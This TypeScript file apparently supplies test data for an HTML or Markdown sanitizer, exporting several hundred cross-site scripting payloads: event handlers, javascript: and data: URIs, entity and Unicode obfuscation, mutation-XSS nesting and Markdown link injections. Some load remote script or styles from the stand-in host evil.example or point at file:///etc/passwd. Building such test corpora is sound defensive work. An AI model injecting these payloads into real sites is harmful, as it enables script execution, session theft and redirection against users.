const raw = String.raw

/** One payload per line; `alert(1)` represents any script. */
const lines = raw`
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/src=data:,alert(1)>
<script>alert(1)//
<scr<script>ipt>alert(1)</scr</script>ipt>
<script x>alert(1)</script 1=2
<script>/*</script><script>*/alert(1)</script>
<script type=module>import('//evil.example')</script>
<script type="text/template"><img src=x onerror=alert(1)></script>
<script nonce="">alert(1)</script>
<script>--><!--</script><img src=x onerror=alert(1)>
<<script>alert(1);//<</script>
<script\x20type="text/javascript">alert(1)</script>
<script&#x3e;alert(1)</script&#x3e;
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\<script>alert(1)\</script>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"
<img src=x onerror=alert(1)//
<img/src=x/onerror=alert(1)>
<img src=x:x onerror=alert(1)>
<img src onerror=alert(1)>
<img src='x'onerror='alert(1)'>
<img src="x" ONERROR="alert(1)">
<img src="x" oNeRrOr=alert(1)>
<img src="x" on&#101;rror=alert(1)>
<img src="x" onerror =alert(1)>
<img src="x" /onerror=alert(1)>
<img """><script>alert(1)</script>">
<img alt="${'`'}><img src=x onerror=alert(1)>">
<img src="javascript:alert(1)">
<img src=javascript:alert(1)>
<img src="jav	ascript:alert(1)">
<img src="jav&#x09;ascript:alert(1)">
<img src="jav&#x0A;ascript:alert(1)">
<img src="jav&#x0D;ascript:alert(1)">
<img src=" &#14; javascript:alert(1)">
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img srcset="javascript:alert(1) 1x, x 2x">
<img srcset=",,,,x onerror=alert(1)">
<img sizes="(x)" srcset="data:text/html,x 1w">
<img dynsrc="javascript:alert(1)">
<img lowsrc="javascript:alert(1)">
<img src=x usemap="#m"><map name=m><area shape=default href=javascript:alert(1)></map>
<img src=x longdesc="javascript:alert(1)">
<img src=x style="behavior:url(#default#time2)" onbegin=alert(1)>
<img src=x crossorigin onloadstart=alert(1)>
<img data-external-src="javascript:alert(1)">
<img data-external-src="data:text/html,<script>alert(1)</script>" alt="x">
<image src=x onerror=alert(1)>
<input onfocus=alert(1) autofocus>
<input type=image src=x onerror=alert(1)>
<input type="checkbox" onclick=alert(1)>
<select onfocus=alert(1) autofocus><option>x</select>
<textarea onfocus=alert(1) autofocus></textarea>
<textarea><img src=x onerror=alert(1)></textarea>
</textarea><script>alert(1)</script>
<keygen onfocus=alert(1) autofocus>
<button onclick=alert(1)>x</button>
<button formaction=javascript:alert(1)>x</button>
<form action=javascript:alert(1)><input type=submit></form>
<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
<form><input name=attributes><input name=innerHTML></form>
<isindex action=javascript:alert(1) type=submit>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<html onmouseover=alert(1)>
<frameset onload=alert(1)><frame src=javascript:alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;></iframe>
<iframe/onload=alert(1)>
<iframe><img src=x onerror=alert(1)></iframe>
<iframe><iframe><iframe><iframe><iframe><iframe><iframe><iframe><iframe><img src=x onerror=alert(1)>
<object data=javascript:alert(1)></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<object type="text/x-scriptlet" data="https://evil.example"></object>
<embed src=javascript:alert(1)>
<embed code="https://evil.example/x.swf" allowscriptaccess=always>
<applet code="x" codebase="https://evil.example"></applet>
<param name=movie value=javascript:alert(1)>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<audio src=x onerror=alert(1)>
<audio autoplay onloadstart=alert(1) src=x></audio>
<track onerror=alert(1)>
<picture><source srcset=x><img src=x onerror=alert(1)></picture>
<marquee onstart=alert(1)>x</marquee>
<bgsound src=javascript:alert(1)>
<layer src="https://evil.example"></layer>
<base href="javascript:alert(1)//">
<base href="https://evil.example/">
<link rel=stylesheet href=javascript:alert(1)>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=prefetch href="https://evil.example/leak">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0; url=data:text/html,<script>alert(1)</script>">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf
<style>@import 'https://evil.example/x.css';</style>
<style>body{background:url(javascript:alert(1))}</style>
<style><img src="</style><img src=x onerror=alert(1)>">
<style/onload=alert(1)>
<style></style><script>alert(1)</script>
<div style="background:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="position:fixed;inset:0;z-index:9999">x</div>
<div style="-moz-binding:url(//evil.example/x.xml#x)">x</div>
<p style="animation-name:x" onanimationstart=alert(1)>
<b style=xss:expr/**/ession(alert(1))>
<span style="list-style-image:url('javascript:alert(1)')">
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script xlink:href=data:,alert(1)></script></svg>
<svg><script>alert&#40;1&#41;</script></svg>
<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<svg><title><style><img src="</style><img src=x onerror=alert(1)>"></title></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><g title="</style><img src onerror=alert(1)>">
<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)>//"></svg>
<svg><image href=javascript:alert(1)>
<svg><handler type="text/javascript">alert(1)</handler></svg>
<math><mi xlink:href=javascript:alert(1)>x</mi></math>
<math href=javascript:alert(1)>x</math>
<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noscript><style></noscript><img src=x onerror=alert(1)>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
<xmp><p title="</xmp><svg/onload=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<template><img src=x onerror=alert(1)></template>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<select><style></select><img src=x onerror=alert(1)></style>
<select><template><style><!--</style><a rel="--><iframe/onload=alert(1)>">
<table><td background="javascript:alert(1)">
<table background="javascript:alert(1)"><tr><td>x</table>
<table><caption><svg onload=alert(1)></caption></table>
<table><colgroup><style><img src=x onerror=alert(1)></style>
<table><tr><td></table></td><script>alert(1)</script>
</div></main></body><script>alert(1)</script>
</p></article><img src=x onerror=alert(1)>
<p><table><p></table><img src=x onerror=alert(1)>
<a href="x"><a href=javascript:alert(1)>y</a></a>
<a><b></a><script>alert(1)</script></b>
<!--<img src="--><img src=x onerror=alert(1)//">
<!--><script>alert(1)</script>-->
<!---><script>alert(1)</script>-->
<!-- --!><img src=x onerror=alert(1)> -->
<!-- <!-- --> <img src=x onerror=alert(1)> -->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<comment><img src="</comment><img src=x onerror=alert(1)//">
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>
<?xml version="1.0"?><script>alert(1)</script>
<?php echo '<script>alert(1)</script>' ?>
<![CDATA[<script>alert(1)</script>]]>
<% <script>alert(1)</script> %>
<a href=javascript:alert(1)>x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
<a href="&#0000106&#0000097&#0000118&#0000097script:alert(1)">x</a>
<a href="javascript%3Aalert(1)">x</a>
<a href="javascript://%0aalert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="livescript:alert(1)">x</a>
<a href="mocha:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/>">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="blob:https://evil.example/x">x</a>
<a href="filesystem:https://evil.example/x">x</a>
<a href="file:///etc/passwd">x</a>
<a href="intent://x#Intent;scheme=javascript;end">x</a>
<a href="x-javascript:alert(1)">x</a>
<a href="//evil.example">x</a>
<a href="/\evil.example">x</a>
<a href="\\evil.example">x</a>
<a href="https:evil.example">x</a>
<a href="https://site.example@evil.example/">x</a>
<a href="relative://relative-site/x">x</a>
<a href=x ping="https://evil.example">x</a>
<a href=x target=_blank onclick=alert(1)>x</a>
<a href=x download="x.html" rel=opener>x</a>
<a href=x id=defaultView name=cookie>x</a>
<a id=x><a id=x name=y href="cid:alert(1)">x</a></a>
<a href="x" class="external-image" onmouseenter=alert(1)>x</a>
<area href=javascript:alert(1)>
<h1 id="location" name="body">x</h1>
<div id=getElementById class="table-scroll" onscroll=alert(1)>x</div>
<div class="table-scroll" role="button" tabindex="1">x</div>
<details open ontoggle=alert(1)>x</details>
<details><summary onclick=alert(1)>x</summary></details>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<div popover id=x onbeforetoggle=alert(1)>x</div><button popovertarget=x>x</button>
<p contenteditable onblur=alert(1)>x</p>
<p draggable=true ondragstart=alert(1)>x</p>
<p onpointerrawupdate=alert(1)>x</p>
<p accesskey=x onclick=alert(1)>x</p>
<p is="x-evil" slot="y">x</p>
<x-evil onclick=alert(1)>x</x-evil>
<x onclick=alert(1)>x</x>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<xss id=x tabindex=1 onfocus=alert(1)></xss>
<xml id=x><x>&lt;img src=x onerror=alert(1)&gt;</x></xml>
<b <script>alert(1)</script>0
<b/onclick=alert(1)>x</b>
<b "onclick=alert(1)">x</b>
<b title='"><img src=x onerror=alert(1)>'>x</b>
<b title="&quot;><img src=x onerror=alert(1)>">x</b>
<b title=${'`'}onclick=alert(1)${'`'}>x</b>
<kbd onclick=alert(1) style=color:red>x</kbd>
<code class="language-x onclick=alert(1)">x</code>
<code class='language-"><script>alert(1)</script>'>x</code>
<span class="hljs-x evil-class admin-only">x</span>
<sup id=x onclick=alert(1)>x</sup>
<ol start="javascript:alert(1)" type=a><li value=x onclick=alert(1)>x</ol>
<td colspan=99999999999 rowspan="1e9">x</td>
<label for=password onclick=alert(1)>x</label>
<blockquote cite=javascript:alert(1)>x</blockquote>
<q cite="javascript:alert(1)">x</q>
<del cite=javascript:alert(1) datetime=x>x</del>
<bdo dir=rtl>x</bdo>
<pre onclick=alert(1) tabindex=99>x</pre>
＜script＞alert(1)＜/script＞
<ſcript>alert(1)</ſcript>
<K onclick=alert(1)>x</K>
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
¼script¾alert(1)¼/script¾
[x](javascript:alert(1))
[x](<javascript:alert(1)>)
[x](javascript&colon;alert(1))
[x](java&#115;cript:alert(1))
[x](&#x6A;avascript:alert(1))
[x](\javascript:alert(1))
[x]( javascript:alert(1) "t")
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](vbscript:alert(1))
[x](//evil.example)
[x](/\evil.example)
[x](https://ok.example "\" onclick=alert(1) x=\"")
[x](https://ok.example '"><script>alert(1)</script>')
[x](https://ok.example/"onmouseover=alert(1)//)
[x](https://ok.example/<script>alert(1)</script>)
[<img src=x onerror=alert(1)>](https://ok.example)
[<script>alert(1)</script>](https://ok.example)
![x](javascript:alert(1))
![x](data:image/svg+xml,<svg/onload=alert(1)>)
![x" onerror="alert(1)](https://ok.example/x.png)
!["><script>alert(1)</script>](https://ok.example/x.png)
![x](https://ok.example/x.png "\" onerror=alert(1) \"")
![x](x.png"onerror="alert(1))
<javascript:alert(1)>
<JAVASCRIPT:alert(1)>
<data:text/html,x>
<https://ok.example/"onclick=alert(1)>
https://ok.example/"onmouseover="alert(1)
https://ok.example/<script>alert(1)</script>
www.ok.example/"><script>alert(1)</script>
mailto:x@ok.example"onclick=alert(1)
"onclick=alert(1)"@ok.example
@ada"onclick=alert(1)
@<script>alert(1)</script>
#10010000000000001"onclick=alert(1)
# x {#onload .evil onclick=alert(1)}
# <img src=x onerror=alert(1)>
# "><script>alert(1)</script>
- [x" onclick="alert(1)] x
- [ ] <input onfocus=alert(1) autofocus>
| <img src=x onerror=alert(1)> | x |
**<script>alert(1)</script>**
~~<img src=x onerror=alert(1)>~~
${'`'}</code><script>alert(1)</script>${'`'}
${'``'} </code></pre><img src=x onerror=alert(1)> ${'``'}
> <script>alert(1)</script>
    </code></pre><script>alert(1)</script>
[^x"onclick=alert(1)]: y [^x"onclick=alert(1)]
x[^<script>]
`

const blocks = [
  '[x]: javascript:alert(1)\n\n[x]',
  '[x]: <java\tscript:alert(1)>\n\n[x]',
  '[x]: https://ok.example "\\"><script>alert(1)</script>"\n\n[x]',
  '![x]\n\n[x]: data:text/html,x',
  '[^1]: <script>alert(1)</script>\n\nnote[^1]',
  '[^1]: [x](javascript:alert(1))\n\nnote[^1]',
  '```"><script>alert(1)</script>\ncode\n```',
  '```js" onclick="alert(1)\ncode\n```',
  '```html\n</code></pre><script>alert(1)</script>\n```',
  '~~~ <img src=x onerror=alert(1)>\n</code>\n~~~',
  '| a |\n|---|\n| <script>alert(1)</script> |',
  '<div>\n\n<script>alert(1)</script>\n\n</div>',
  '<div\nonclick=alert(1)\n>x</div>',
  '<a href="\njavascript:alert(1)">x</a>',
  '<a\nhref=javascript:alert(1)\n>x',
  '<img\nsrc=x\nonerror=alert(1)\n>',
  '<pre>\n</pre><script>alert(1)</script>\n</pre>',
  '<details>\n<summary><svg onload=alert(1)></summary>\n\n<script>alert(1)</script>\n</details>',
  '<!-- \n\n--><script>alert(1)</script>',
  '<!-- unclosed\n\n<script>alert(1)</script>',
  '<style>\n\n@import "//evil.example";\n\n</style>',
  '<textarea>\n\n</textarea><img src=x onerror=alert(1)>',
  '<script>\n\nalert(1)\n\n</script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<img src="x\u0000" onerror\u0000=alert(1)>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="\u00a0javascript:alert(1)">x</a>',
  '<a href="\u2028javascript:alert(1)">x</a>',
  '<a href="\ufeffjavascript:alert(1)">x</a>',
  '<a href="\u202ejavascript:alert(1)">x</a>',
  '<a href="jav\u200bascript:alert(1)">x</a>',
  '<img\u000bsrc=x\u000bonerror=alert(1)>',
  '<img\u000csrc=x\u000conerror=alert(1)>',
  '<img\u00a0src=x onerror=alert(1)>',
  '<b \ud800onclick=alert(1)>x</b>',
  '[x](java\u0000script:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '<div '.repeat(200) + 'onclick=alert(1)>',
  '<b>'.repeat(300) + '<script>alert(1)</script>',
  '> '.repeat(60) + '<script>alert(1)</script>',
]

export const xssPayloads: readonly string[] = [
  ...lines.split('\n').filter((line) => line.trim() !== ''),
  ...blocks,
]
